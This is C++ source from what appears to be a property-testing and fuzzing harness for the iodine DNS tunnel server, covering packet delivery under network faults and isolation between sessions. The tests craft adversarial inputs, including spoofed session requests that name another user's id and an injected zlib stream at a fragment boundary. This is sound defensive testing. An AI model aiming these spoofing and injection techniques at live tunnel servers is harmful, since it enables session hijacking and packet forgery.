		case 0: R.fn.p_drop = t.range(10, 300); R.fn.p_dup = t.range(0, 200); R.fn.p_delay = t.range(0, 300); break;
		case 1: R.fn.p_drop = t.range(300, 900); break;
		case 2: R.fn.p_dup = t.range(200, 800); R.fn.p_delay = t.range(0, 200); break;
		case 3: R.fn.p_delay = t.range(300, 900); break;
		default: R.fn.p_drop = 1000; break;   // black-out
		}
		R.fn.max_delay_us = t.chance(1, 2) ? 3000000 : 200000;
		int dir = (int)t.pick({6, 2, 2});    // both directions, queries only, answers only
		int srv_idx = s.srv->idx;
		if (dir == 1) R.fn.filter = [srv_idx](const sim::Datagram &dg) { return dg.from_inst != srv_idx; };
		if (dir == 2) R.fn.filter = [srv_idx](const sim::Datagram &dg) { return dg.from_inst == srv_idx; };
		if (R.relay) {
			// with a relay every round trip has four hops: faults are applied on the client <-> relay hops only and duplication
			// is capped, otherwise every duplicate is duplicated again on each hop (tens of thousands of datagrams per case)
			R.fn.p_dup = std::min<uint32_t>(R.fn.p_dup, 300);
			sim::Addr back = R.relay->back, server = R.relay->server;
			auto inner = R.fn.filter;
			R.fn.filter = [back, server, inner](const sim::Datagram &dg) { if (dg.src == back || dg.dst == back) return false; return inner ? inner(dg) : true; };
		}
	}
	// RECOVER, one case in three: an application keeps sending through the client's tun device at a steady rate (2..8 packets a
	// second) during the faults, the settling time and the clean suffix -- what a TCP connection or a media stream does
	R.busy = busy_draw && !c.raw_mode;
	std::shared_ptr<std::function<void()>> streamer;
	if (R.busy) {
		uint64_t period = (uint64_t)busy_period_ms * 1000;
		auto cnt = std::make_shared<int>(0);
		sim::Instance *ci = s.cli[0], *si = s.srv;
		Bytes csrc = cip[0], cdst = sip;
		streamer = std::make_shared<std::function<void()>>();
		std::weak_ptr<std::function<void()>> weak = streamer;
		Run *Rp = &R;
		*streamer = [=]() {
			if (Rp->stream_stop) return;
			Bytes body(20 + (*cnt % 50)); for (size_t k = 0; k < body.size(); k++) body[k] = (uint8_t)(*cnt * 7 + k * 3);
			if (busy_side != 1 && ci->tun_in.size() < 64) sim::W.offer_tun(ci, scn::tun_packet(cdst, csrc, body, (uint16_t)(30000 + *cnt)));
			if (busy_side != 0 && si->tun_in.size() < 64) sim::W.offer_tun(si, scn::tun_packet(csrc, cdst, body, (uint16_t)(45000 + *cnt)));
			(*cnt)++;
			Rp->n_stream++;
			if (auto sp = weak.lock()) sim::W.after(period, *sp);
		};
		sim::W.after(period, *streamer);
		R.classes.push_back(busy_side == 0 ? "busy-upstream-stream" : (busy_side == 1 ? "busy-downstream-stream" : "busy-both-ways"));
	}
	// CLEAN, one upstream one-way case in three: before the paced offers, a bulk upload -- the client's tun device always has the next packet
	// waiting -- for 62..75 s.  A busy client sends no pings (every chunk cancels its ping timer), so for longer than the 60 s session
	// timeout the server hears nothing but data from it; the session must stay alive and the paced packets afterwards are judged as usual.
	if (mode == CLEAN && oneway == 1 && bulk_draw) {
		uint64_t end = sim::W.now + (uint64_t)bulk_secs * 1000000;
		uint64_t lat0 = sim::W.latency_us; sim::W.latency_us = 8000;   // a round trip of 16 ms keeps the number of queries per case affordable
		sim::Instance *ci = s.cli[0];
		uint32_t k = 0;
		while (sim::W.now < end && !sim::W.livelock && ci->state != sim::ST_EXITED) {
			while (ci->tun_in.size() < 2) {
				Bytes body(40 + (k * 37) % 260); for (size_t j = 0; j < body.size(); j++) body[j] = (uint8_t)(k * 11 + j * 5);
				sim::W.offer_tun(ci, scn::tun_packet(sip, cip[0], body, (uint16_t)(20000 + (k & 0x3fff)))); k++;
			}
			sim::W.run_for(2000);
		}
		sim::W.run_for(100000); sim::W.latency_us = lat0;
		R.n_stream += (int)k;
		R.classes.push_back("bulk-upload-longer-than-the-session-timeout");
		uint64_t shift = sim::W.now + 2000000 - t0;
		for (auto &o : R.offers) o.at += shift;
		at += shift;
	}
	// run the offers
	size_t next = 0;
	uint64_t end_faults = t0 + fault_len;
	uint64_t horizon = (mode == CLEAN ? at + 8000000 : (mode == REDELIVER ? at + 20000000 : end_faults));
	while (sim::W.now < horizon && !sim::W.livelock) {
		uint64_t until = horizon;
		if (next < R.offers.size()) until = std::min(until, R.offers[next].at);
		sim::W.run_until(until);
		while (next < R.offers.size() && R.offers[next].at <= sim::W.now) {
			Offer &o = R.offers[next++];
			// Adversarial content (faulty mode, one offer in six once the fragment sizes are known): an incompressible packet, which zlib
			// stores verbatim, carrying a complete zlib stream of ANOTHER packet exactly where the second fragment begins.  If a receiver
			// ever assembles the packet without its first fragment, zlib accepts the rest and a packet nobody sent comes out.
			if (mode == FAULTY && !c.raw_mode && (o.pkt.size() & 7) < 2 && o.pkt.size() >= 24) {
				int F = o.side < 0 ? R.down_frag : R.up_frag;
				if (F >= 40 && F <= 1100 && (o.side < 0 ? (o.dst >= 0 && o.dst < 9) : o.dst < 0)) {
					Bytes qbody(8 + (o.pkt.size() % 24)); for (size_t k = 0; k < qbody.size(); k++) qbody[k] = (uint8_t)(0x51 + k);
					Bytes Q = scn::tun_packet(Bytes(o.pkt.begin() + 20, o.pkt.begin() + 24), Bytes(o.pkt.begin() + 16, o.pkt.begin() + 20), qbody, (uint16_t)(0x5100 + R.n_crafted));
					Bytes zq = refproto::zcompress(Q);
					Bytes P(o.pkt.begin(), o.pkt.begin() + 24);
					uint32_t x = (uint32_t)(o.pkt.size() * 2654435761u) | 1;
					while ((int)P.size() < F - 7) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; P.push_back((uint8_t)(x >> 11)); }
					if ((int)P.size() == F - 7) {
						P.insert(P.end(), zq.begin(), zq.end());
						for (int k = 0; k < 40; k++) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; P.push_back((uint8_t)(x >> 11)); }
						Bytes zp = refproto::zcompress(P);
						if (zp.size() == P.size() + 11 && !memcmp(zp.data() + 7, P.data(), P.size())) { o.pkt = P; o.judged = false; R.n_crafted++; }
					}
				}
			}
			// Boundary sizes (clean mode, one offer in five once the fragment size in use is known from the wire): an incompressible packet
			// whose compressed form is m full fragments plus 0, 1, 2 or F-1 bytes, so that the last fragment carries exactly 1 or 2 bytes, or
			// is full, or one short of full.
			if (mode == CLEAN && !c.raw_mode && o.pkt.size() >= 24 && o.pkt.size() % 5 == 0 && (o.side < 0 ? (o.dst >= 0 && o.dst < 9) : o.dst < 0)) {
				int F = o.side < 0 ? R.down_frag : R.up_frag;
				if (F >= 20 && F <= 1100) {
					int m = 1 + (int)(o.pkt.size() / 5 % 4);
					static const int RR[] = {1, 2, 0, -1, 1};
					int rr = RR[o.pkt.size() / 20 % 5];
					long n = (long)m * F + rr - 11;
					if (n >= 24 && n <= 1400) {
						Bytes P(o.pkt.begin(), o.pkt.begin() + 24);
						uint32_t x = (uint32_t)(o.pkt.size() * 2246822519u + (uint32_t)next) | 1;
						while ((long)P.size() < n) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; P.push_back((uint8_t)(x >> 11)); }
						if ((long)refproto::zcompress(P).size() == n + 11) { o.pkt = P; o.judged = true; R.n_boundary++; }
					}
				}
			}
			sim::W.offer_tun(o.side < 0 ? s.srv : s.cli[o.side], o.pkt);
		}
		if (next >= R.offers.size() && mode != CLEAN && mode != REDELIVER) { sim::W.run_until(horizon); break; }
	}
	R.fn.active = false;
	if (mode == FAULTY) sim::W.run_for(8000000);     // drain on a clean network so late deliveries are also checked
	// ---- RECOVER: settle, then fresh packets both ways.  Both ends only resynchronise their 3-bit packet
	// sequence numbers through new traffic (a number inside the receiver's window of the last four is taken for
	// a repeat and dropped), so the first packets after an outage may legitimately be lost; what C02 promises is
	// that delivery resumes: 12 packets are offered each way, the last 4 of each direction are judged.
	if (mode == RECOVER) {
		sim::W.run_for(15000000);
		for (int i = 0; i < 24; i++) {
			Offer o; o.side = (i & 1) ? -1 : 0; o.dst = (i & 1) ? 0 : -1; o.at = sim::W.now;
			int cap = c.raw_mode ? 3000 : ((i & 1) ? dncap : upcap);
			size_t blen = (size_t)std::max(1, std::min(40 + 7 * i, 12 * cap - 40));
			Bytes body(blen); for (size_t k = 0; k < body.size(); k++) body[k] = (uint8_t)(k * 13 + i);
			o.pkt = scn::tun_packet(o.dst < 0 ? sip : cip[0], o.side < 0 ? sip : cip[0], body, (uint16_t)(60000 + i));
			o.judged = i >= 16;
			R.offers.push_back(o);
			sim::W.offer_tun(o.side < 0 ? s.srv : s.cli[0], o.pkt);
			sim::W.run_for(1000000);
		}
		sim::W.run_for(10000000);
	}
	R.stream_stop = true;
	// ---- bookkeeping for the oracles
	for (auto &e : R.tm.ev) {
		if (e.write) continue;
		for (auto &o : R.offers) if (!o.accepted && o.pkt == e.data && ((o.side < 0 && e.inst == s.srv->idx) || (o.side >= 0 && e.inst == s.cli[o.side]->idx))) { o.accepted = true; o.accepted_at = e.t; break; }
	}
	for (int k = 0; k < c.nclients; k++) if (s.cli[k]->state == sim::ST_EXITED) R.exited = true;
	if (s.srv->state == sim::ST_EXITED) R.exited = true;
	R.client_log = s.cli[0]->log; R.server_log = s.srv->log;
	std::string why;
	if (!R.tm.integrity(why)) R.v.fail("C01", "C01:fabricated", why);
	for (auto &e : R.tm.ev) if (e.write) {
		R.delivered++;
		size_t z = refproto::zcompress(e.data).size();
		bool down = e.inst != s.srv->idx;
		if ((int)z > (down ? dncap : upcap)) R.multi_frag_delivered++;
	}
	R.render += fmt(" | frag=%d upcap=%d offers=%zu delivered=%d multifrag=%d faults drop/dup/delay=%llu/%llu/%llu of %llu", R.down_frag, upcap, R.offers.size(), R.delivered, R.multi_frag_delivered,
			(unsigned long long)R.fn.n_drop, (unsigned long long)R.fn.n_dup, (unsigned long long)R.fn.n_delay, (unsigned long long)R.fn.n_total);
	int show = 0;
	for (auto &o : R.offers) if (show++ < 6) R.render += fmt("\n  offer t=%.3fs %s->%s %zuB %s", (o.at - t0) / 1e6, o.side < 0 ? "srv" : fmt("cli%d", o.side).c_str(), o.dst < 0 ? "srv" : (o.dst == 9 ? "nobody" : fmt("cli%d", o.dst).c_str()), o.pkt.size(), hexs(o.pkt, 28).c_str());

	// ---- C02 oracles
	if (mode == CLEAN || mode == RECOVER || mode == REDELIVER) {
		if (R.exited) R.v.fail("C02", "C02:exited", "a program exited during the scenario\n" + R.client_log.substr(R.client_log.size() > 600 ? R.client_log.size() - 600 : 0));
		// per direction: judged accepted packets must be written at the receiver exactly once (CLEAN) / at least once (RECOVER suffix), in order
		for (int dir = 0; dir < 2; dir++) {
			int recv_inst = dir == 0 ? s.srv->idx : s.cli[0]->idx;
			std::vector<mon::TunEv> wr = R.tm.writes_of(recv_inst);
			size_t lastpos = 0; bool first = true;
			for (auto &o : R.offers) {
				bool mine = dir == 0 ? (o.side == 0 && o.dst < 0) : (o.side < 0 && o.dst == 0);
				if (!mine || !o.judged) continue;
				bool suffix = mode == RECOVER && (o.pkt.size() >= 10 && ((o.pkt[8] << 8) | o.pkt[9]) >= 60016);
				if (mode == RECOVER && !suffix) continue;
				if (!o.accepted) {
					if (mode == RECOVER) R.v.fail("C02", "C02:not-accepted", fmt("after recovery a packet offered on the %s tun was never read", dir == 0 ? "client" : "server"));
					continue;   // CLEAN: back-pressure may leave packets in the tun queue at the end of the scenario
				}
				int count = 0; size_t pos = 0; uint64_t tw = 0;
				for (size_t k = 0; k < wr.size(); k++) if (wr[k].data == o.pkt) { if (!count) { pos = k; tw = wr[k].t; } count++; }
				// REDELIVER: an answer to a case-changed repeat that became the pending query may carry a fragment and is swallowed by
				// the relay; the server repeats it on the next query, so every such event may cost a ping interval
				uint64_t limit = mode == CLEAN ? 5000000 : (mode == REDELIVER ? 18000000 : 10000000);
				if (count == 0) {
					if (mode == REDELIVER && dir == 1 && R.relay->n_swallowed_data > 0) continue;   // see relay.h: not the server's doing
					if (sim::W.now - o.accepted_at > limit)
						R.v.fail("C02", dir == 0 ? "C02:lost-upstream" : "C02:lost-downstream", fmt("packet (%zu bytes, ident %u) accepted at t=%.3fs on the %s was never written to the peer's tun device", o.pkt.size(), (o.pkt[8] << 8) | o.pkt[9], o.accepted_at / 1e6, dir == 0 ? "client" : "server"));
					continue;
				}
				if ((mode == CLEAN || mode == REDELIVER) && count > 1) R.v.fail("C02", "C02:duplicate", fmt("packet ident %u delivered %d times on a clean path", (o.pkt[8] << 8) | o.pkt[9], count));
				if (tw - o.accepted_at > limit) R.v.fail("C02", "C02:late", fmt("packet ident %u delivered %.3fs after it was accepted", (o.pkt[8] << 8) | o.pkt[9], (tw - o.accepted_at) / 1e6));
				if (!first && pos < lastpos) R.v.fail("C02", "C02:reordered", fmt("packet ident %u delivered before an earlier accepted packet", (o.pkt[8] << 8) | o.pkt[9]));
				lastpos = pos; first = false;
			}
		}
	}
	if (R.n_crafted) R.classes.push_back("crafted-zlib-stream-at-the-fragment-boundary");
	if (R.n_boundary) R.classes.push_back("last-fragment-of-1-2-F-1-or-F-bytes");
	if (R.fn.n_drop + R.fn.n_dup + R.fn.n_delay > 0) R.classes.push_back("faults-hit");
	if (R.multi_frag_delivered) R.classes.push_back("multi-fragment-delivered");
	if (R.delivered >= 9) R.classes.push_back("seqno-wrap");
	if (R.idle_gap) R.classes.push_back("idle-gap");
}

} // namespace tun
