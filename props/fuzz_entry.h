// fuzz_entry.h -- libFuzzer entry point around a case function: the input bytes become a choice tape.
// The oracle is inside the target; on a violation the case is written next to the artifact and the process traps.
#pragma once
#include "sim/harness.h"
#include <cstdlib>
#include <unistd.h>
namespace fz {
static hz::Stats g_stats;
static std::string g_statfile;
static void flush() { if (!g_statfile.empty()) g_stats.write(g_statfile, ""); }
}
#define VERIF_FUZZ_ENTRY(ID, FN) \
extern "C" int LLVMFuzzerInitialize(int *, char ***) { const char *s = getenv("VERIF_FUZZ_STATS"); if (s) fz::g_statfile = s; atexit(fz::flush); return 0; } \
extern "C" int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size) { \
	hz::Tape t(data, size); \
	hz::CaseResult r = FN(t); \
	fz::g_stats.add(r, t); \
	if ((fz::g_stats.evaluations & 1023) == 0) fz::flush(); \
	if (!r.ok) { fz::flush(); fprintf(stderr, "\nFUZZ-FAIL signature=%s why=%s\n", r.signature.c_str(), r.why.c_str()); __builtin_trap(); } \
	return 0; }
