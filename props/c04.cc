// C04 -- sessions are isolated: source check, routing by tunnel address, slot ownership.
// Real iodined + 2..8 honest scripted sessions (refproto) from distinct addresses + third parties.
// (1) differential: the same generated history is executed twice from reset, with and without the spoofed
//     datagrams (requests naming a victim's userid from a foreign address); everything the victims receive
//     (decoded) and everything the server writes to its tun device must be identical, and every spoofed DNS
//     request must have been answered BADIP (raw frames: not at all);
// (2) routing: a packet arriving on the server tun for address A shows up only in answers / raw frames sent to
//     the live logged-in session that was assigned A;
// (3) slots: a VACK never re-issues a slot that was active within the last 60 whole seconds, VFUL is only sent when no slot is free
//     or expired (>= 62 s), and a session silent >= 62 s is refused.
#include "adv_common.h"
#include <set>
#include <iterator>
using namespace hz;
using namespace adv;

enum AKind { A_PING, A_DATA, A_SPOOF, A_TUN, A_ADV, A_NEWV, A_OPT, A_NEWLOGIN };
struct A4 {
	int kind = A_ADV;
	int who = 0;          // session index (honest acts), spoofer source index (spoof)
	int victim = 0;       // session index named by a spoof / destination selector
	Act msg;              // spoof message template (user filled in at execution)
	int sel = 0;          // tun destination selector / data destination
	uint32_t salt = 0;
	uint64_t dt = 0;
};

struct Transcript {
	std::vector<std::vector<std::string>> rx;   // per session: decoded answers / raw frames, in order of arrival
	std::vector<Bytes> tunw;
	std::vector<std::string> notes;
};

struct Plan {
	scn::Config cfg; int nsess = 2, nthird = 1; std::vector<bool> v6, lazy, raw; std::vector<A4> acts;
};

static Plan gen_plan(Tape &t)
{
	Plan P;
	scn::Config &c = P.cfg;
	c.qtype = 1 + (int)t.pick({5, 1, 3, 1, 1, 1, 1});
	c.check_ip = !t.chance(1, 6);
	static const int masks[] = {27, 29, 30, 28, 24, 16, 8};
	c.netmask = masks[t.pick({4, 3, 2, 2, 1, 1, 1})];
	int size_log = 32 - c.netmask;
	uint32_t hostpos;
	uint32_t size = size_log >= 31 ? 0x7fffffffu : (1u << size_log);
	switch (t.pick({4, 2, 2})) { case 0: hostpos = 1; break; case 1: hostpos = 1 + t.below(std::min<uint32_t>(size - 2, 18)); break; default: hostpos = size - 2 - t.below(std::min<uint32_t>(size - 2, 3)); break; }
	if (hostpos < 1) hostpos = 1;
	if (hostpos > size - 2) hostpos = size - 2;
	uint32_t base = 0x0A000000u;
	uint32_t ip = base + hostpos;
	c.server_ip = fmt("%u.%u.%u.%u", ip >> 24, (ip >> 16) & 255, (ip >> 8) & 255, ip & 255);
	c.srv_seed = t.u32() | 1;
	int nslots = (int)std::min<uint32_t>(16, size - 3);
	P.nsess = std::max(1, std::min(nslots, 2 + (int)t.pick({4, 3, 2, 1, 1, 1, 1})));
	P.nthird = 1 + (int)t.below(3);
	for (int i = 0; i < P.nsess + P.nthird; i++) { P.v6.push_back(t.chance(1, 2)); P.lazy.push_back(t.chance(1, 2)); P.raw.push_back(t.chance(1, 4)); }
	int nact = t.range(8, 90);
	for (int k = 0; k < nact && !t.exhausted(); k++) {
		A4 a;
		a.kind = (int)t.pick({6, 3, 7, 4, 3, 2, 1, 2});
		a.who = (int)t.below((uint32_t)P.nsess);
		a.salt = t.u32();
		switch (a.kind) {
		case A_SPOOF: {
			a.victim = (int)t.below((uint32_t)P.nsess);
			// spoofer: another session's address or a third party
			a.who = (int)t.below((uint32_t)(P.nsess + P.nthird));
			if (a.who == a.victim) a.who = P.nsess + (int)t.below((uint32_t)P.nthird);
			static const int kinds[] = {K_L, K_I, K_S, K_O, K_N, K_R, K_P, K_DATA, K_RAWLOGIN, K_RAWDATA, K_RAWPING};
			a.msg.kind = kinds[t.pick({2, 1, 2, 2, 2, 1, 3, 3, 1, 2, 1})];
			a.msg.hash = (int)t.pick({3, 1, 1, 0, 1, 1, 1, 0});           // never challenge+1: a correct raw login may rebind by design
			if (a.msg.kind == K_RAWLOGIN && a.msg.hash == H_CURRENT) a.msg.hash = H_RANDOM;   // "current" becomes challenge+1 for raw logins
			a.msg.arg = (int)t.below(65536); a.msg.arg2 = (int)t.below(17); a.msg.salt = t.u32();
			a.msg.mut = (int)t.pick({10, 1, 0, 0, 1});
			if (a.msg.kind == K_N && t.chance(1, 2)) a.msg.arg = 2 + (int)t.below(1200);
			a.msg.spoof = true;
			break;
		}
		case A_TUN: a.sel = (int)t.pick({6, 2, 1, 1, 1, 1, 2}); a.victim = (int)t.below((uint32_t)P.nsess); break;
		case A_DATA: a.sel = t.chance(1, 3) ? 1 + (int)t.below((uint32_t)P.nsess) : 0; break;
		case A_ADV: { static const uint64_t DT[] = {5000, 100000, 1000000, 10000000, 30000000, 58000000, 62000000, 70000000, 59600000, 60000000, 60500000, 61000000}; a.dt = DT[t.pick({3, 3, 3, 2, 2, 1, 2, 1, 1, 2, 1, 1})]; break; }
		case A_OPT: a.sel = (int)t.below(3); break;
		default: break;
		}
		P.acts.push_back(a);
	}
	return P;
}

struct Sess { int src; bool up = false; bool raw = false; uint64_t t_maybe = 0; /* a raw data frame sent when the harness could not tell whether the session was still accepted */ int user = -1; size_t absorbed = 0; uint64_t t_last = 0; int state = 1; /* 1 live, 0 expired, -1 unknown */ Bytes tun_ip; size_t seen = 0; };

struct Exec {
	Env E;
	std::vector<Sess> ss;
	Transcript T;
	std::vector<std::pair<Bytes, int>> tunpk;     // (compressed packet offered on the server tun, owner session or -1 / -2 = must not be delivered)
	std::vector<Bytes> tunraw;
	bool got_traffic[16] = {false};                // downstream traffic was directed at the session (tun packet or packet from another session)
	uint64_t maybe_active[32] = {0};               // latest moment a request naming the slot was not provably refused (upper bound of the last refresh)
	std::vector<Bytes> third_ips;                  // tunnel addresses third parties obtained by logging in
	struct Third { int src; Bytes ip; int user; uint64_t t_last; };
	std::vector<Third> third;                      // third parties currently logged in (latest login per source)
	std::map<size_t, size_t> maxf; std::map<size_t, std::set<char>> enc;
	int n_spoof = 0, n_spoof_badip = 0, n_tun_live = 0, n_tun_dead = 0, n_expiry = 0, n_takeover_checks = 0, n_c2c = 0, n_newlogin = 0, n_raw_sessions = 0, n_raw_relogin = 0;
	std::string sig, why;
	void fail(const std::string &s, const std::string &w) { if (sig.empty()) { sig = s; why = w; } }
};

static bool contains(const Bytes &hay, const Bytes &needle)
{
	if (needle.size() > hay.size()) return false;
	return std::search(hay.begin(), hay.end(), needle.begin(), needle.end()) != hay.end();
}

// What a session observes, reduced to what does not depend on when the server happened to wake up (any datagram,
// also one it refuses, makes the server flush a query it was about to answer within 20 ms, so the packaging of
// downstream data into individual answers legitimately differs between the two executions):
//   ctl   answers to requests other than ping/data, by DNS id (exact payload)
//   acc   every ping/data query that was refused (BADIP)
//   enc   the downstream encoding letters seen
//   raw   raw-mode frames received
// plus, compared separately, the reassembled downstream packets and the server's tun writes.
static void pump(Exec &X)
{
	for (size_t i = 0; i < X.ss.size(); i++) {
		Sess &s = X.ss[i];
		scn::ScriptClient &sc = X.E.S(s.src).sc;
		for (; s.seen < sc.inbox.size(); s.seen++) {
			const scn::Rx &rx = sc.inbox[s.seen];
			if (!rx.is_raw && rx.ans.id >= 60000) continue;   // the answer to a spoof sent from this session's address against somebody else
			if (rx.is_raw) {
				// raw ping replies are not part of the transcript: how many keep-alive pings the drain phase sends depends on wake-up timing
				if (!(rx.dg.data.size() >= 4 && (rx.dg.data[3] >> 4) == 3)) X.T.rx[i].push_back("raw:" + hexs(rx.dg.data, 4096));
				sc.absorb(rx); continue; }
			char k = rx.ans.qname.empty() ? 0 : (char)tolower((unsigned char)rx.ans.qname[0]);
			bool pingdata = k && strchr("p0123456789abcdef", k);
			if (!rx.ans.ok) X.T.rx[i].push_back(fmt("id%u:undecodable(%s)", rx.ans.id, rx.ans.err.c_str()));
			else if (!pingdata) X.T.rx[i].push_back(fmt("ctl id%u:", rx.ans.id) + hexs(rx.ans.payload, 4096));
			else {
				bool badip = rx.ans.payload.size() == 5 && !memcmp(rx.ans.payload.data(), "BADIP", 5);
				// which of the last queries is still held when the history ends depends on wake-up timing, so only refusals are recorded
				if (badip) X.T.rx[i].push_back(fmt("acc id%u:refused", rx.ans.id));
				if (!badip && rx.ans.payload.size() > 2) { size_t f = rx.ans.payload.size() - 2; if (f > X.maxf[i]) X.maxf[i] = f; }
			}
			if (getenv("VERIF_TRACE")) { refproto::DownHdr h{}; bool hh = rx.ans.ok && refproto::down_header(rx.ans.payload, h); fprintf(stderr, "%.6f   session %zu got id=%u q=%.8s payload %zuB%s\n", sim::W.now / 1e6, i, rx.ans.id, rx.ans.qname.c_str(), rx.ans.payload.size(), hh ? fmt(" [up %d/%d dn %d/%d last=%d]", h.up_seq, h.up_frag, h.dn_seq, h.dn_frag, h.last).c_str() : ""); }
			if (rx.ans.ok && rx.ans.prefix) X.enc[i].insert((char)tolower((unsigned char)rx.ans.prefix));
			if (pingdata) sc.absorb(rx);   // only ping/data answers carry the downstream header
		}
	}
}

static void execute(const Plan &P, bool with_spoofs, Exec &X, Tape &t)
{
	if (getenv("VERIF_TRACE")) fprintf(stderr, "======== execution %s the spoofed datagrams\n", with_spoofs ? "with" : "without");
	Env &E = X.E;
	E.cfg = P.cfg;
	E.cfg.nclients = 0;
	E.s.reset(new scn::Session(E.cfg));
	E.password = Bytes(E.cfg.password.begin(), E.cfg.password.end());
	E.tm.attach(sim::W);
	E.s->start_server();
	E.wm.v = &E.v; E.wm.domain = E.cfg.domain; E.wm.srv_idx = E.s->srv->idx; E.wm.attach(sim::W);
	int size_log = 32 - E.cfg.netmask;
	uint32_t size = size_log >= 31 ? 0x7fffffffu : (1u << size_log);
	E.nslots = (int)std::min<uint32_t>(16, size - 3);
	int nsrc = P.nsess + P.nthird;
	for (int k = 0; k < nsrc; k++) {
		std::unique_ptr<Source> s(new Source());
		s->sc.addr = src_addr(k, P.v6[k]);
		s->sc.domain = E.cfg.domain; s->sc.password = E.password; s->sc.qtype_k = E.cfg.qtype;
		s->sc.next_id = (uint16_t)(1000 + 3000 * k);
		s->sc.attach();
		E.src.push_back(std::move(s));
	}
	X.T.rx.resize(P.nsess);
	sim::W.on_recv = [&X, prev = sim::W.on_recv](const sim::Datagram &dg, sim::Instance *i) {
		if (prev) prev(dg, i);
		if (i->idx != X.E.s->srv->idx) return;
		decode_incoming(X.E, dg); learn_from_incoming(X.E);
	};
	sim::W.on_send = [&X, prev = sim::W.on_send](const sim::Datagram &dg) {
		if (prev) prev(dg);
		Env &E = X.E;
		if (dg.from_inst != E.s->srv->idx) return;
		if (getenv("VERIF_TRACE") && !is_rawframe(dg.data)) { refproto::Answer ta; if (refproto::decode_answer(dg.data, ta) && ta.ok) { refproto::DownHdr h{}; refproto::down_header(ta.payload, h); std::string where; if (ta.payload.size() > 10) { Bytes fr(ta.payload.begin() + 2, ta.payload.end()); for (size_t k = 0; k < X.tunpk.size(); k++) { auto it = std::search(X.tunpk[k].first.begin(), X.tunpk[k].first.end(), fr.begin(), fr.end()); if (it != X.tunpk[k].first.end()) where += fmt(" = tunpkt#%zu[%zu..%zu) of %zu", k, (size_t)(it - X.tunpk[k].first.begin()), (size_t)(it - X.tunpk[k].first.begin()) + fr.size(), X.tunpk[k].first.size()); } } fprintf(stderr, "%.6f     server -> %s id=%u q=%.10s payload %zuB [up %d/%d dn %d/%d last=%d]%s\n", sim::W.now / 1e6, dg.dst.str().c_str(), ta.id, ta.qname.c_str(), ta.payload.size(), h.up_seq, h.up_frag, h.dn_seq, h.dn_frag, h.last, where.c_str()); } }
		// (3) slot re-issue / VFUL
		refproto::Answer a; bool dec = !is_rawframe(dg.data) && refproto::decode_answer(dg.data, a) && a.ok;
		if (dec && !a.qname.empty() && tolower((unsigned char)a.qname[0]) == 'v' && a.payload.size() >= 9) {
			if (!memcmp(a.payload.data(), "VACK", 4)) {
				int u = a.payload[8];
				X.n_takeover_checks++;
				// The server's clock counts whole seconds.  t_active is never later than the moment the server last refreshed the slot,
				// so the age in whole seconds computed here is never smaller than the one the server sees: "active during the last 60
				// seconds" is judged exactly at the boundary, without a margin.
				uint64_t age_s = sim::W.now / 1000000 - E.slot[u].t_active / 1000000;
				if (u < 32 && E.slot[u].have && age_s <= 60)
					X.fail("C04:live-slot-reissued", fmt("VACK re-issued slot %d to %s although its session was active %.3f s ago (%llu s on the server's whole-second clock)", u, dg.dst.str().c_str(), (sim::W.now - E.slot[u].t_active) / 1e6, (unsigned long long)age_s));
			}
			if (!memcmp(a.payload.data(), "VFUL", 4)) {
				for (int u = 0; u < E.nslots; u++)
					if (!E.slot[u].have || sim::W.now - std::max(E.slot[u].t_active, X.maybe_active[u]) >= 62000000ull) { X.fail("C04:full-but-slot-free", fmt("VFUL sent to %s although slot %d is %s", dg.dst.str().c_str(), u, E.slot[u].have ? "silent for more than 62 s" : "unused")); break; }
			}
		}
		// (2) routing of packets that arrived on the server tun
		Bytes frag;
		if (is_rawframe(dg.data) && (dg.data[3] >> 4) == 2) frag.assign(dg.data.begin() + 4, dg.data.end());
		else if (dec && a.payload.size() >= 2 + 8) { char k = (char)tolower((unsigned char)a.qname[0]); if (strchr("p0123456789abcdef", k)) frag.assign(a.payload.begin() + 2, a.payload.end()); }
		if (frag.size() >= 8) {
			for (auto &tp : X.tunpk) {
				if (!contains(tp.first, frag)) continue;
				int owner = tp.second;
				if (owner < 0) X.fail("C04:routed-to-dead-or-unassigned", fmt("a packet that arrived on the server tun for an address without a live logged-in session was sent to %s (fragment of %zu bytes %s found in compressed packet #%zu of %zu bytes)", dg.dst.str().c_str(), frag.size(), hexs(frag, 24).c_str(), (size_t)(&tp - &X.tunpk[0]), tp.first.size()));
				else if (owner >= 100) { if (!E.S(owner - 100).sc.addr.same_ip(dg.dst)) X.fail("C04:misrouted", fmt("a packet for the tunnel address of the logged-in third party src%d was sent to %s", owner - 100, dg.dst.str().c_str())); }
				else if (!(E.S(X.ss[owner].src).sc.addr.same_ip(dg.dst))) X.fail("C04:misrouted", fmt("a packet for the tunnel address of session %d (user %d) was sent to %s", owner, X.ss[owner].user, dg.dst.str().c_str()));
			}
		}
		learn_from_emission(E, dg);
	};
	sim::W.on_tun_write = [&X, prev = sim::W.on_tun_write](sim::Instance *i, const Bytes &b) { if (prev) prev(i, b); if (i->idx == X.E.s->srv->idx) X.T.tunw.push_back(b); };
	sim::W.run_for(20000);
	// honest sessions
	for (int i = 0; i < P.nsess; i++) {
		Sess s; s.src = i;
		scn::ScriptClient &sc = E.S(i).sc;
		s.up = sc.handshake(P.lazy[i], 0, 0, 0);
		s.user = sc.userid; s.t_last = sim::W.now;
		if (s.up) { unsigned a = 0, b = 0, c = 0, d = 0; sscanf(sc.tun_ip_text.c_str(), "%u.%u.%u.%u", &a, &b, &c, &d); s.tun_ip = Bytes{(uint8_t)a, (uint8_t)b, (uint8_t)c, (uint8_t)d}; E.slot[s.user & 31].tun_ip = s.tun_ip; }
		if (s.up && P.raw[i]) {   // the session switches to raw UDP mode (response to challenge+1); from then on it pings and sends data in raw frames
			uint8_t hh[16]; ref::login_hash(sc.password, sc.challenge + 1, hh);
			size_t b0 = sc.inbox.size();
			sc.send_raw(refproto::raw_frame(1, sc.userid, Bytes(hh, hh + 16))); sim::W.run_for(3000);
			for (size_t q = b0; q < sc.inbox.size(); q++) if (sc.inbox[q].is_raw && sc.inbox[q].dg.data.size() >= 4 && (sc.inbox[q].dg.data[3] >> 4) == 1) s.raw = true;
			if (s.raw) X.n_raw_sessions++;
		}
		s.seen = sc.inbox.size();
		X.ss.push_back(s);
		if (!s.up) X.T.notes.push_back(fmt("session %d: handshake refused", i));
	}
	auto touch = [&](Sess &s, uint16_t id) {
		// did the server accept it?  BADIP = refused
		scn::ScriptClient &sc = E.S(s.src).sc;
